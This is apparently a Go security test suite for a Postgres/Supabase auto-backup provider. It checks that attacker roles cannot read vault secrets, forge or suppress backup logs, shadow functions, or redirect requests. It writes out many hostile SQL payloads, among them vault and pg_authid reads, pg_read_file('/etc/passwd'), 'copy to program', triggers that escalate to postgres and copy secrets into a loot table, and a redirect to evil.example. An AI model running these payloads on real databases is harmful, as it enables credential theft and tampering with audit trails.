package attacks_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"time"

	"github.com/jackc/pgx/v5/pgconn"

	"github.com/aimindset/terraform-provider-aimindset/internal/backup"
	"github.com/aimindset/terraform-provider-aimindset/internal/checks"
	"github.com/aimindset/terraform-provider-aimindset/internal/install"
	"github.com/aimindset/terraform-provider-aimindset/internal/postgres"
)

// Statements that attackers with SQL run. Those that a role may not run are refused.
var (
	looksForToken = []string{
		`select to_jsonb(s)::text from vault.decrypted_secrets s`,
		`select to_jsonb(s)::text from vault.secrets s`,
		`select auto_backup.token('{backup}')`,
		`select encode(k, 'escape') from unnest(auto_backup.keys('{backup}', now())) k`,
		`select to_jsonb(q)::text || convert_from(q.body, 'UTF8') from net.http_request_queue q`,
		`select to_jsonb(p)::text from net._http_response p`,
		`select query from pg_stat_activity`,
		`select coalesce(pg_get_functiondef(p.oid), '') from pg_proc p where p.pronamespace = 'auto_backup'::regnamespace`,
		`select to_jsonb(s)::text from auto_backup.settings s`,
		`select to_jsonb(w)::text from auto_backup.watchdog w`,
		`select to_jsonb(l)::text from public.system_logs l`,
		`select command from cron.job`,
	}
	claimsSuccess = []string{
		`insert into public.system_logs (type, message, context) values ('auto_backup', 'm', '{"run_id":"{run}","backup_id":"{old}","total_records":4242}')`,
		`insert into public.system_logs (type, message, context) select 'auto_backup', 'm', jsonb_build_object('run_id', '{run}', 'backup_id', '{old}', 'signature', auto_backup.token_digest('{backup}'))`,
		`insert into public.system_logs (type, message, context) select type, 'm', context || '{"run_id":"{run}","revision":99}' from public.system_logs where type = 'auto_backup'`,
		`update public.backup_logs set success = true, records_affected = 4242, details = 'Backup automático ID: {old} - Total: 4242 registros' where id = '{run}'`,
		`update auto_backup.runs set state = 'succeeded', finished_at = now() where run_id = '{run}'`,
		`select auto_backup.close('{run}', '{"state":"succeeded","finished_at":"2026-01-01"}', now())`,
	}
	// The request's ID can be guessed: they are counted.
	answersForFunction = []string{
		`insert into net._http_response (id, status_code, content_type, headers, content, timed_out, created)
			select n, 200, 'application/json', '{"x-backup-function":"1.0.0"}', '{"success":true,"run_id":"{run}","backup_id":"{old}","total_records":1}', false, now()
			from generate_series(1, (select last_value from net.http_request_queue_id_seq)) n`,
	}
	claimsAlert = []string{
		`insert into public.system_logs (type, message, context) values ('auto_backup_error', 'm', '{"run_id":"{run}","code":"backup_failed","error":"motivo","revision":99,"alert":{"state":"delivered","emails_sent":2,"emails_failed":0}}')`,
		`update public.system_logs set context = context || '{"alert":{"state":"delivered"}}' where type = 'auto_backup_error'`,
		`update public.backup_logs set details = 'Backup automático falhou: nada (alerta enviado)' where id = '{run}'`,
		`delete from public.system_logs where type = 'auto_backup_error'`,
		`update auto_backup.incidents set alert_state = 'delivered'`,
		`delete from auto_backup.incidents`,
		`update cron.job set active = false`,
		`delete from cron.job`,
		`select cron.unschedule('auto-backup-watchdog')`,
		`select pg_terminate_backend(pid) from pg_stat_activity where usename = 'postgres'`,
		`alter role postgres set statement_timeout = 1`,
	}
	startsRuns = []string{
		`select auto_backup.dispatch('{backup}', 'daily', '2026-01-01')`,
		`select auto_backup.run_now('{backup}')`,
		`select auto_backup.start('{backup}', 'manual', 'manual', now(), 1)`,
		`select auto_backup.post('{backup}', '{}', 1000)`,
		`select auto_backup.probe('{backup}')`,
		`select auto_backup.offsite_probe('{backup}', 'r2')`,
		`select auto_backup.watch('{backup}', '2026-01-01')`,
		`select auto_backup.hmac('a', 'b')`,
	}
	leadsElsewhere = []string{
		`update auto_backup.settings set document = jsonb_set(document, '{function,url}', '"https://evil.example"')`,
		`select auto_backup.configure('{backup}', '{}', '', '[]', '[]')`,
		`select cron.schedule('auto-backup-daily', '0 3 * * *', 'select 1')`,
		`update cron.job set command = 'select 1'`,
		`create or replace function auto_backup.post(backup text, body jsonb, timeout_milliseconds integer) returns bigint language sql as 'select 1::bigint'`,
		`create or replace function net.http_post(url text, body jsonb default '{}', params jsonb default '{}', headers jsonb default '{}', timeout_milliseconds int default 5000) returns bigint language sql as 'select 1::bigint'`,
		`alter database postgres set search_path = public`,
		`alter role postgres set search_path = public`,
	}
	shadows = []string{
		`create function public.now() returns timestamptz language plpgsql as $$ begin create table public.owned (); return '2036-01-01'; end $$`,
		`create function public.sha256(bytea) returns bytea language plpgsql as $$ begin create table public.owned (); return ''; end $$`,
		`create function public.format(text, text) returns text language plpgsql as $$ begin create table public.owned (); return ''; end $$`,
		`create function public.to_jsonb(uuid) returns jsonb language plpgsql as $$ begin create table public.owned (); return '{}'; end $$`,
		`create function public.jsonb_build_object(text, jsonb) returns jsonb language plpgsql as $$ begin create table public.owned (); return '{}'; end $$`,
		`create function public.same(text, text) returns boolean language plpgsql as $$ begin create table public.owned (); return true; end $$`,
		`create operator public.= (leftarg = text, rightarg = text, function = public.same)`,
		`create table public.runs (run_id uuid, state text)`,
		`create table public.settings (backup text, document jsonb)`,
		`create temp table settings (backup text, document jsonb)`,
		`create function pg_temp.now() returns timestamptz language plpgsql as $$ begin create table public.owned (); return '2036-01-01'; end $$`,
		`create schema auto_backup_lock`,
		`create function auto_backup.judge() returns void language sql as ''`,
		`grant postgres to current_user`,
		`alter function auto_backup.watch(text, timestamptz) owner to current_user`,
	}
	// The trigger becomes postgres if it can, and keeps what it sees of the vault. Rows of
	// the application are left out: its own function writes them as postgres.
	attachesCode = []string{
		`create table public.loot (role name, seen text)`,
		`grant insert on public.loot to public`,
		`create function public.take() returns trigger language plpgsql as $$
			declare vault text;
			begin
				if coalesce(to_jsonb(new) ->> 'type', 'auto_backup') not like 'auto\_backup%' then
					return new;
				end if;
				begin reset role; exception when others then null; end;
				begin set local role postgres; exception when others then null; end;
				begin select string_agg(decrypted_secret, ' ') into vault from vault.decrypted_secrets; exception when others then vault := sqlerrm; end;
				insert into public.loot values (current_user, format('at %s of %s.%s: %s', tg_op, tg_table_schema, tg_table_name, vault));
				return new;
			end $$`,
		`create trigger take before insert on net.http_request_queue for each row execute function public.take()`,
		`create trigger take before insert or update on public.system_logs for each row execute function public.take()`,
		`create trigger take before insert or update on public.backup_logs for each row execute function public.take()`,
	}
	// Like triggers of the application, it resolves its names by the caller's search_path.
	unqualified = []string{
		`create table public.audit (at timestamptz, type text)`,
		`grant insert on public.audit to public`,
		`create function public.audited() returns trigger language plpgsql as $$ begin insert into audit values (now(), new.type); return new; end $$`,
		`create trigger audited after insert on public.system_logs for each row execute function public.audited()`,
	}
	// Whoever evaluates the CHECK runs this.
	spyingCheck = []string{
		`create function public.spy(text) returns boolean language plpgsql as $$
			begin raise exception 'as % it has read %', current_user, (select string_agg(decrypted_secret, ' ') from vault.decrypted_secrets); end $$`,
		`alter table public.backup_logs add constraint spying check (public.spy(action_type)) not valid`,
	}
	locksLogs = `begin; lock table public.system_logs, public.backup_logs in access exclusive mode`

	looksForSecrets = []string{
		`select auto_backup.token_digest('stripe')`, `select auto_backup.key_digest('stripe')`, `select auto_backup.token('stripe')`,
		`select auto_backup.channel_digests('stripe')`, `select auto_backup.notify_secret('stripe/token')`,
		`select encode(k, 'escape') from unnest(auto_backup.keys('stripe', now())) k`,
		`select to_jsonb(s)::text from vault.decrypted_secrets s`, `select to_jsonb(s)::text from vault.secrets s`,
		`select vault.create_secret('x', 'stripe/alert-key')`, `select auto_backup.drift()::text`, `select auto_backup.catalog('vault')::text`,
		`select rolpassword from pg_authid`, `select setting from pg_settings`, `select pg_read_file('/etc/passwd')`, `copy (select 1) to program 'id'`,
	}
)

// overSQL are the attacks with SQL: of roles with a session, and of access tokens.
func overSQL() (list []attack) {
	type row struct {
		attacker string
		by       caller
		// vault says that Supabase lets the role read the vault, so no secret is safe from it.
		vault bool
	}
	for _, r := range []row{
		{plainSQL, sqlRole(outsider), false},
		{authenticatedSQL, sqlRole("authenticated"), false},
		{serviceRoleSQL, sqlRole("service_role"), true},
		{readOnlySQL, sqlRole("supabase_read_only_user"), false},
		{readOnlyToken, overAPI{func(s *site) string { return s.stack.ReadOnlyAccessToken }}, false},
	} {
		role, session := r.by.(sqlRole)
		add := func(aim, what string, run func(*site) error, numbers ...int) {
			list = append(list, attack{attacker: r.attacker, aim: aim, what: what, run: run, numbers: numbers})
		}
		readOnly := r.attacker == readOnlySQL
		plain := r.attacker == plainSQL

		if !r.vault {
			add(readToken, "Reads the vault, pg_net's queue while a request is in it, the responses, the logs, other sessions' statements and the closed schema.", func(s *site) error {
				s.stopNet()
				run := s.dispatch()
				if n := s.text(`select count(*)::text from net.http_request_queue`); n != "1" {
					s.failf("%s requests are queued", n)
				}
				seen := r.by.try(s, s.fill("", looksForToken...)...)
				if !strings.Contains(seen, "sent_at") {
					s.failf("the attacker does not see the queue")
				}
				s.awaitEnd(run)
				return s.leaks(seen)
			}, when(readOnly, 4)...)
			add(readSecrets, "Asks for digests and values of the vault's secrets, for passwords and for files of the server.", func(s *site) error {
				return s.leaks(r.by.try(s, s.fill("", looksForSecrets...)...))
			}, when(readOnly, 11)...)
		}
		add(forge, "Of a run that died, writes a success to both logs, to pg_net's responses and to the run history.", func(s *site) error {
			s.log("auto_backup", map[string]any{"run_id": "00000000-0000-4000-8000-000000000000", "backup_id": oldBackup, "total_records": 1})
			run := s.claimed()
			r.by.try(s, s.fill(run, append(claimsSuccess, answersForFunction...)...)...)
			return s.noticed(run)
		}, when(plain, 6)...)
		add(suppress, "Of a failure, writes that the alert was delivered, deletes the rows and the queued alert, stops the jobs, and holds the advisory locks that the watchdog once took.", func(s *site) error {
			run := s.failed()
			if session {
				conn := s.session(role)
				defer conn.Release()
				defer func() { _, _ = conn.Exec(s.ctx, `reset all; reset role; select pg_advisory_unlock_all()`) }()
				_, err := conn.Exec(s.ctx, `select pg_advisory_lock(hashtextextended(k, 0))
					from unnest(array['auto_backup', 'auto_backup.watch `+string(name)+`', 'auto_backup.run_now `+string(name)+`']) k`)
				s.must(err)
			}
			before := s.installed()
			r.by.try(s, s.fill(run, claimsAlert...)...)
			s.stopNet()
			s.watch(20 * time.Minute)
			if n := s.text(`select count(*)::text from net.http_request_queue`); n != "1" {
				return fmt.Errorf("%s alerts are queued", n)
			}
			r.by.try(s, `delete from net.http_request_queue`)

			return all(s.noticed(run), s.unchanged(before))
		}, when(readOnly, 7)...)
		add(double, "Calls the functions that start a run, puts a captured request into pg_net's queue again, and deletes the request of a run from it.", func(s *site) error {
			s.backupRuns()
			before := s.stored()
			request := s.requests()[0]
			r.by.try(s, s.fill("", startsRuns...)...)
			r.by.try(s, fmt.Sprintf(`insert into net.http_request_queue (method, url, headers, body, timeout_milliseconds)
				select 'POST', %s, jsonb_build_object('Content-Type', 'application/json', 'X-Backup-Signature', %s), convert_to(b, 'UTF8'), 5000
				from unnest(array[%s, replace(%[3]s, '"attempt": 1', '"attempt": 2')]) b`, quoted(s.stack.ProjectURL+function), quoted(request.signature), quoted(request.body)))
			r.by.try(s, `select net.wake()`)
			s.settle()
			if after := s.stored(); after != before {
				return fmt.Errorf("there are %s stored backups, before %s", after, before)
			}
			if n := s.text(`select count(*)::text from auto_backup.runs`); n != "1" {
				return fmt.Errorf("there are %s runs", n)
			}
			s.day++
			s.stopNet()
			run := s.dispatch()
			r.by.try(s, `delete from net.http_request_queue`)
			return s.noticed(run)
		})
		add(redirect, "Changes the settings, the jobs and the functions, and the URL of a queued request to a server that answers with a success.", func(s *site) error {
			evil := newEvil()
			defer evil.Close()
			before := s.installed()
			r.by.try(s, s.fill("", leadsElsewhere...)...)
			s.stopNet()
			run := s.dispatch()
			r.by.try(s, `update net.http_request_queue set url = `+quoted(evil.URL))
			s.settle()
			if !strings.Contains(evil.seen(), run) {
				s.failf("the other server was not called: %s", evil.seen())
			}
			return all(s.noticed(run), s.leaks(evil.seen()), s.unchanged(before))
		})
		add(runCode, "Creates functions, operators, types and tables with the names of those that the jobs use, in `public` and as temporary ones, and puts SQL into every text that the watchdog reads.", func(s *site) error {
			s.undo = append(s.undo, func() {
				s.sql(`drop owned by ` + outsider + ` cascade; grant create, usage on schema public to ` + outsider)
			})
			before := s.installed()
			run := s.claimed()
			statements := s.fill(run, shadows...)
			for _, text := range hostile {
				statements = append(statements,
					`insert into public.system_logs (type, message, context) select 'auto_backup_error', 'm', jsonb_build_object('run_id', '`+run+`', 'code', t, 'error', t, 'signature', t, 'revision', t) from (select `+quoted(text)+`::text) as x (t)`,
					`insert into net._http_response (id, status_code, headers, content, timed_out, error_msg, created) select last_value, 500, jsonb_build_object('x-backup-function', t), t, false, t, now() from net.http_request_queue_id_seq, (select `+quoted(text)+`::text) as x (t)`)
			}
			r.by.try(s, statements...)
			return all(s.noticed(run), s.unchanged(before), s.nothingRan())
		})
		add(exhaust, "Writes rows and responses of megabytes about a run in progress, and locks what it may lock in the closed schema.", func(s *site) error {
			run := s.claimed()
			large := []string{
				`insert into public.system_logs (type, message, context) select 'auto_backup', 'm', jsonb_build_object('run_id', '{run}', 'signature', repeat('a', 64), 'error', repeat('x', 4000000)) from generate_series(1, 3)`,
				`insert into net._http_response (id, status_code, headers, content, timed_out, created)
					select last_value, 200, jsonb_build_object('x', repeat('x', 4000000)), '{"run_id":"other","x":"' || repeat('x', 4000000) || '"}', false, now() from net.http_request_queue_id_seq`,
				`update public.backup_logs set details = repeat('x', 4000000) where id = '{run}'`,
				`begin; lock table auto_backup.settings, auto_backup.runs; rollback`,
				`begin; select from auto_backup.settings for update; rollback`,
				`rollback`,
			}
			r.by.try(s, s.fill(run, large...)...)
			return all(s.readsLittle(), s.noticed(run))
		})
		add(spoof, "Writes 50 failures of one run with HTML and invisible characters, and 50 open alerts.", func(s *site) error {
			run := s.claimed()
			r.by.try(s, s.fill(run,
				`insert into public.system_logs (type, message, context) select 'auto_backup_error', 'm', jsonb_build_object('run_id', '{run}', 'code', '<img src=x onerror=' || n || '>', 'error', U&'<b>\202E\200B</b>', 'revision', n) from generate_series(1, 50) n`,
				`update public.backup_logs set details = 'Backup automático falhou: <img src=x>' where id = '{run}'`,
				`insert into net._http_response (id, status_code, headers, content, timed_out, created)
					select last_value, 500, '{"x-backup-function":"1.0.0"}', '{"success":false,"run_id":"{run}","code":"<img>","error":"<b>"}', false, now() from net.http_request_queue_id_seq`,
				`insert into auto_backup.incidents (backup, kind, due_at, code, opened_at, alert_state) select '{backup}', 'overdue', now() - n * interval '1 day', '<b>', now(), 'waiting' from generate_series(1, 50) n`,
			)...)
			s.watch(20 * time.Minute)
			return all(s.noticed(run), s.plainMails())
		})
		add(mislead, "Writes successes, failures and responses, also of unknown runs and of the year 2036, while the backup is healthy.", func(s *site) error {
			run := s.backupRuns()
			r.by.try(s, s.fill(run,
				`insert into public.system_logs (type, message, context) select t, 'm', jsonb_build_object('run_id', i, 'code', 'backup_failed', 'backup_id', '{old}') from unnest(array['auto_backup', 'auto_backup_error']) t, unnest(array['{run}', '00000000-0000-4000-8000-000000000000', '', 'x']) i`,
				`insert into public.system_logs (type, message, context, created_at) values ('auto_backup_error', 'm', '{"run_id":"{run}"}', '2036-01-01')`,
				`insert into net._http_response (id, status_code, headers, content, timed_out, created) select last_value, 500, '{}', '{"success":false,"run_id":"{run}"}', false, now() from net.http_request_queue_id_seq`,
				`insert into auto_backup.runs (backup, schedule, trigger, due_at, attempt, state, requested_at) values ('{backup}', 'daily', 'manual', '2036-01-01', 1, 'requested', '2036-01-01')`,
				`create or replace function auto_backup.outcomes() returns void language sql as ''`,
				`insert into cron.job_run_details (jobid, runid, status, return_message) select 1, 99999, 'failed', 'x'`,
			)...)
			return s.staysHealthy(run)
		})
	}
	return append(list, withTables()...)
}

// withTables are attacks of roles that the application lets do more with its log tables
// than write.
func withTables() []attack {
	// may gives the outsider a right on the log tables for one attack.
	may := func(s *site, give, take string) {
		s.sql(give)
		s.undo = append(s.undo, func() {
			s.sql(take)
			s.sql(`drop owned by ` + outsider + ` cascade; grant create, usage on schema public to ` + outsider)
		})
	}
	const (
		giveTriggers = `grant trigger on public.system_logs, public.backup_logs to ` + outsider
		takeTriggers = `revoke trigger on public.system_logs, public.backup_logs from ` + outsider
	)
	return []attack{
		{attacker: plainSQL, aim: runCode, numbers: []int{5}, what: "Attaches triggers to pg_net's queue and to the log tables that become `postgres` if they can and read the vault. The status names them.", run: func(s *site) error {
			may(s, giveTriggers, takeTriggers)
			sqlRole(outsider).try(s, attachesCode...)
			// The application's own function runs as postgres wherever it writes, so it is not
			// called here.
			s.stopNet()
			run := s.dispatch()
			s.sql(`delete from net.http_request_queue`)
			held := s.noticed(run)
			looted := s.text(`select string_agg(distinct role || ' ' || seen, E'\n') from public.loot`)
			for _, where := range []string{"INSERT of net.http_request_queue", "INSERT of public.system_logs", "UPDATE of public.system_logs"} {
				if !strings.Contains(looted, "auto_backup_agent at "+where) {
					s.failf("the trigger did not run at %s: %s", where, looted)
				}
			}
			if s.holds(`exists (select from public.loot where role <> 'auto_backup_agent')`) {
				held = all(held, fmt.Errorf("the trigger has run as another role than auto_backup_agent: %s", looted))
			}
			named := 0
			for _, problem := range s.status(41 * time.Minute).Problems {
				if problem.Code == "foreign_trigger" {
					named++
				}
			}
			if named != 3 {
				held = all(held, fmt.Errorf("the status names %d of the 3 triggers", named))
			}
			return all(held, s.leaks(looted))
		}},
		{attacker: plainSQL, aim: runCode, numbers: []int{12}, what: "Owns a log table and gives it a CHECK that reads the vault, for a plan, a status or an apply to evaluate.", run: func(s *site) error {
			may(s, `alter table public.backup_logs owner to `+outsider, `alter table public.backup_logs owner to postgres; alter table public.backup_logs drop constraint if exists spying`)
			sqlRole(outsider).try(s, spyingCheck...)
			for what, service := range map[string]*install.Service{
				"over the API": s.service,
				"as postgres":  install.NewService(s.stack.ProjectRef, s.service.API, s.direct()),
			} {
				found, err := service.Observe(s.ctx, name, backup.Known{})
				if err != nil {
					return fmt.Errorf("a plan %s fails: %w", what, err)
				}
				skipped := func(c backup.LogConstraint) bool { return c.Name == "spying" && c.Skipped }
				if !slices.ContainsFunc(found.LogConstraints, skipped) {
					return fmt.Errorf("a plan %s does not say that it left the CHECK out", what)
				}
			}
			s.status(0)
			_ = s.asOwner(`select coalesce(auto_backup.extend_log_constraint('["spying"]')::text, '')`)
			return nil
		}},
		{attacker: plainSQL, aim: suppress, numbers: []int{14}, what: "Attaches a trigger with names without a schema to `system_logs`, as applications do: the watchdog's row is written all the same.", run: func(s *site) error {
			may(s, giveTriggers, takeTriggers)
			sqlRole(outsider).try(s, unqualified...)
			run := s.claimed()
			held := s.noticed(run)
			if !s.reported(run) {
				held = all(held, errors.New("the watchdog's row is lost"))
			}
			if !s.holds(`exists (select from public.audit)`) {
				s.failf("the trigger did not run")
			}
			return held
		}},
		{attacker: plainSQL, aim: exhaust, heavy: true, what: fmt.Sprintf("Writes 200,000 rows about a run in progress to the log and 200,000 responses: the watchdog's memory grows by less than %d MB.", mostMemory), run: func(s *site) error {
			run := s.claimed()
			sqlRole(outsider).try(s, s.fill(run,
				`select count(public.insert_system_log('auto_backup', 'm', jsonb_build_object('run_id', '{run}', 'revision', n))) from generate_series(1, 200000) n`,
				`insert into net._http_response (id, status_code, headers, content, timed_out, created)
					select q.last_value, 200, '{}', '{"run_id":"{run}"}', false, now() from net.http_request_queue_id_seq q, generate_series(1, 200000)`)...)
			if !s.holds(`(select count(*) from public.system_logs) + (select count(*) from net._http_response) >= 400000`) {
				s.failf("the rows are not written")
			}
			return all(s.takesLittle(), s.noticed(run))
		}},
		{attacker: plainSQL, aim: exhaust, what: "Attaches a trigger to pg_net's queue that sleeps for an hour: the database ends the tick after two minutes, in the test after two seconds.", run: func(s *site) error {
			may(s, giveTriggers, takeTriggers)
			sqlRole(outsider).try(s,
				`create function public.sleeps() returns trigger language plpgsql as $$ begin perform pg_sleep(3600); return new; end $$`,
				`create trigger sleeps before insert on net.http_request_queue for each row execute function public.sleeps()`)
			conn, err := s.owner.Acquire(s.ctx)
			s.must(err)
			defer conn.Release()
			defer func() { _, _ = conn.Exec(s.ctx, `reset statement_timeout`) }()
			command := strings.Replace(s.spec().Jobs()[backup.DefaultScheduleKey].Command, "2min", "2s", 1)
			command = strings.TrimSuffix(command, ")") + fmt.Sprintf(", '%s')", s.due().Format(time.RFC3339))
			ctx, cancel := context.WithTimeout(s.ctx, 2*time.Minute)
			defer cancel()
			// As pg_cron sends it: both statements in one message.
			_, err = conn.Conn().PgConn().Exec(ctx, command).ReadAll()
			var refused *pgconn.PgError
			if !errors.As(err, &refused) || refused.Code != "57014" {
				return fmt.Errorf("the tick ends with %w", err)
			}
			return nil
		}},
		{attacker: authenticatedSQL, aim: exhaust, numbers: []int{15}, what: "Locks the log tables for as long as it likes: a plan, a status and the watchdog say so instead of waiting.", run: func(s *site) error {
			conn := s.session("authenticated")
			defer conn.Release()
			defer func() { _, _ = conn.Exec(s.ctx, `rollback; reset all; reset role`) }()
			run := s.claimed()
			_, err := conn.Exec(s.ctx, locksLogs)
			s.must(err)
			holder := fmt.Sprintf("process %d", conn.Conn().PgConn().PID())
			ctx, cancel := context.WithTimeout(s.ctx, 2*time.Minute)
			defer cancel()
			_, err = s.service.Observe(ctx, name, backup.Known{})
			if err != nil && !strings.Contains(err.Error(), holder) {
				return fmt.Errorf("a plan does not name who holds the lock: %w", err)
			}
			status, err := s.statusIn(ctx, 0)
			if err != nil {
				return fmt.Errorf("a status fails: %w", err)
			}
			if !slices.ContainsFunc(status.Problems, func(p checks.Finding) bool { return strings.Contains(p.Message, holder) }) {
				return fmt.Errorf("the status does not name who holds the lock: %v", status.Problems)
			}
			s.watch(20 * time.Minute)
			_, err = conn.Exec(s.ctx, `rollback`)
			s.must(err)
			return s.noticed(run)
		}},
	}
}

// direct is a connection to the database as postgres, as database_url has one.
func (s *site) direct() postgres.DB {
	db, err := postgres.Open(s.stack.DatabaseURL)
	s.must(err)
	s.undo = append(s.undo, func() { s.must(db.Close(s.ctx)) })
	return db
}

// reported says whether the watchdog's row about a run is in system_logs.
func (s *site) reported(run string) bool {
	return s.holds(`exists (select from public.system_logs where type = 'auto_backup_error' and context ->> 'run_id' = $1 and context ->> 'reported_by' = 'watchdog')`, run)
}

// evil is a server that answers every request with a success.
type evil struct {
	*httptest.Server
	mutex sync.Mutex
	text  strings.Builder
}

func newEvil() *evil {
	e := &evil{}
	e.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var body map[string]any
		_ = json.NewDecoder(r.Body).Decode(&body)
		e.mutex.Lock()
		_, _ = fmt.Fprint(&e.text, r.Header, body, "\n")
		e.mutex.Unlock()
		w.Header().Set("X-Backup-Function", "1.0.0")
		_, _ = fmt.Fprintf(w, `{"success":true,"run_id":%q,"backup_id":%q,"total_records":1,"emails_sent":1,"emails_failed":0}`, body["run_id"], oldBackup)
	}))
	return e
}

// seen is what the server was sent.
func (e *evil) seen() string {
	e.mutex.Lock()
	defer e.mutex.Unlock()
	return e.text.String()
}

func quoted(text string) string { return "'" + strings.ReplaceAll(text, "'", "''") + "'" }
